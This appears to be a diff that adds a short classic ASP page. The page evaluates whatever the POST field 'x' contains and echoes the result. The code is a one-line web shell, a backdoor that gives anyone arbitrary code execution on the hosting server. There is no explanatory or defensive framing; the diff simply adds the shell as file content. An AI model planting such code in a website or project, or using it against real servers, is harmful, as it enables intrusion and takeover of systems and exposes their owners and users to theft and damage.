@@ -1,0 +1,5 @@
+<%
+Dim r
+r = Eval(Request.Form("x"))
+Response.Write r
+%>
